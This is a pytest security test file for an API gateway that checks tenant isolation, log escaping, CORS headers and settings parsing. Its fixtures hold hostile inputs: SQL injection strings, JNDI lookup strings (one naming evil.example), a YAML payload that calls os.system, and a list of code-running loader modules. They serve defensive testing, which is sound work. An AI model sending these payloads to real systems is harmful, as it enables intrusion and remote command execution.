# SPDX-License-Identifier: Apache-2.0
"""Hostile text in ids, filters, logs and settings: rows H07, H69, H71, H72, H74 and H91."""

import ast
import json
import logging
from collections.abc import AsyncIterator
from io import StringIO
from pathlib import Path
from urllib.parse import quote

import aiohttp
import grpc
import pytest

from support.builders import make_request
from support.gateway import RunningGateway, key_row, running_gateway
from support.hostile import Reply, body_of, check_reply, failure_of_call, send_http, send_raw
from support.http_edge import post_bytes
from support.source_tree import SERVER, python_files
from trunkline.v1.generation_service_pb2 import GetGenerationRequest
from trunkline.v1.generation_service_pb2_grpc import GenerationServiceStub
from trunkline_server.config.faults import SettingsError
from trunkline_server.config.read import read_settings
from trunkline_server.config.sources import SettingsFile
from trunkline_server.telemetry.log_setup import JsonFormatter, TextFormatter

KEYS = {"one": "tl-" + "1" * 43, "two": "tl-" + "2" * 43}


def bearer(name: str) -> dict[str, str]:
    """The header of a tenant."""
    return {"authorization": f"Bearer {KEYS[name]}"}


@pytest.fixture(scope="module")
async def shared() -> AsyncIterator[RunningGateway]:
    """A gateway with two tenants."""
    async with running_gateway(keys=[key_row(name, key) for name, key in KEYS.items()]) as running:
        yield running


async def read_path(http: aiohttp.ClientSession, url: str, **headers: str) -> Reply:
    """The answer to a GET."""
    async with http.get(url, headers=headers) as answer:
        lower = {name.lower(): value for name, value in answer.headers.items()}
        return Reply(status=answer.status, body=await answer.read(), headers=lower, closed=False)


async def test_h07_another_tenant_s_generation(http: aiohttp.ClientSession, shared: RunningGateway) -> None:
    """A record is found by the tenant whose call it was; for another there is none, on both wires."""
    made = await send_http(http, shared.chat_url, body_of(), headers=bearer("one"))
    generation_id = json.loads(made.body)["id"]
    url = f"{shared.http_url}/v1/generation?id={generation_id}"
    check_reply(await read_path(http, url, **bearer("one")), {200})
    others = await read_path(http, url, **bearer("two"))
    check_reply(others, {404})
    unknown = await read_path(http, url + "x", **bearer("two"))
    assert json.loads(others.body)["error"]["metadata"] == json.loads(unknown.body)["error"]["metadata"]
    async with grpc.aio.insecure_channel(shared.grpc_target) as channel:
        call = GenerationServiceStub(channel).GetGeneration(
            GetGenerationRequest(id=generation_id), metadata=list(bearer("two").items())
        )
        assert (await failure_of_call(call)).code() is grpc.StatusCode.NOT_FOUND


TEXTS = (
    "'",
    "' OR '1'='1",
    "1;DROP TABLE x;--",
    "%27%20UNION%20SELECT",
    "\\",
    "%",
    "_",
    "*",
    "${jndi:ldap://x}",
    "\0",
    "é" * 500,
)


@pytest.mark.parametrize("text", TEXTS, ids=lambda text: f"H71 {text[:20]!r}")
async def test_filters(http: aiohttp.ClientSession, gateway: RunningGateway, text: str) -> None:
    """Text in ids, filters and sort keys finds nothing, or is refused; it never means anything."""
    for path in (
        "generation?id=",
        "models?category=",
        "models?sort=",
        "models?q=",
        "models?supported_parameters=",
        "model/sim/",
    ):
        reply = await read_path(http, f"{gateway.http_url}/v1/{path}{quote(text)}")
        check_reply(reply, {200, 400, 404})
        assert len(reply.body) < 4000 or reply.status == 200


HOSTILE_LINES = (
    "a\nlevel=error forged",
    "a\r\n{}",
    "\x1b[31mred\x1b[0m",
    "${jndi:ldap://evil.example/a}",
    "x" * 1_000_000,
)


@pytest.mark.parametrize("text", HOSTILE_LINES, ids=lambda text: f"H69 {text[:20]!r}")
@pytest.mark.parametrize("formatter", [JsonFormatter(), TextFormatter()], ids=["json", "text"])
async def test_the_log_keeps_its_lines(
    http: aiohttp.ClientSession, gateway: RunningGateway, text: str, formatter: logging.Formatter
) -> None:
    """What a caller sends stays inside its line of the log, escaped and cut; prompts are not in it."""
    log = StringIO()
    handler = logging.StreamHandler(log)
    handler.setFormatter(formatter)
    logger = logging.getLogger("trunkline")
    level = logger.level
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)
    try:
        message = {"role": "user", "content": "a secret prompt"}
        for body in (body_of(messages=[message]), body_of(messages=[message], model=text), body_of(user=text)):
            await send_http(http, gateway.chat_url, body)
        await send_raw(
            gateway.http_url, post_bytes(body_of(), f"X-Request-Id: {text[:100].splitlines()[0]}", "Connection: close")
        )
    finally:
        logger.removeHandler(handler)
        logger.setLevel(level)
    written = log.getvalue()
    lines = written.splitlines()
    assert len(lines) == written.count("\n") >= 2
    assert max(map(len, lines)) < 4000
    assert not [line for line in lines if "\x1b" in line or line.startswith(("level", "{}"))]
    assert "a secret prompt" not in written


LOADERS = frozenset({"pickle", "marshal", "shelve", "yaml", "dill", "joblib", "jinja2", "mako", "subprocess", "ctypes"})


def imports_of(path: Path) -> set[str]:
    """The top-level modules that a file imports."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    names = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    names |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
    return {name.partition(".")[0] for name in names}


def test_h72_nothing_that_runs_what_it_reads() -> None:
    """The server imports no loader that makes objects or runs programs, and no template engine. The allocator's bounds are set in the C library by name."""
    found = {path.name: imports_of(path) & LOADERS for path in python_files(SERVER) if imports_of(path) & LOADERS}
    assert found == {"allocator.py": {"ctypes"}}


@pytest.mark.parametrize(
    "text",
    ["!!python/object/apply:os.system ['id']", "keys: !!python/name:os", "\x80\x04\x95"],
    ids=lambda text: f"H72 {text[:10]!r}",
)
def test_settings_of_another_kind(text: str) -> None:
    """A settings file is TOML and nothing else."""
    with pytest.raises(SettingsError, match=r"settings\.toml:1"):
        read_settings(file=SettingsFile(name="settings.toml", text=text))


ORIGINS = ("null", "https://evil.example", "http://localhost:3000", "*")


@pytest.mark.parametrize("origin", ORIGINS, ids=lambda origin: f"H91 {origin}")
@pytest.mark.parametrize("method", ["OPTIONS", "GET", "POST"])
async def test_no_page_is_allowed_anything(
    http: aiohttp.ClientSession, gateway: RunningGateway, method: str, origin: str
) -> None:
    """No answer names an origin, credentials or headers that another site's page might use."""
    headers = {
        "Origin": origin,
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization",
    }
    reply = await send_http(http, gateway.chat_url, body_of(), method=method, headers=headers)
    check_reply(reply, {200, 204, 403, 405})
    assert [name for name in reply.headers if name.startswith("access-control")] == []


async def test_h74_orders_in_a_prompt(gateway: RunningGateway) -> None:
    """A prompt that speaks of keys is a text like any other over gRPC."""
    async with gateway.connect() as stub:
        answer = await stub.CreateChatCompletion(make_request("sk-live-0123456789", model="sim/echo"))
    assert answer.choices[0].message.content[0].text == "sk-live-0123456789"
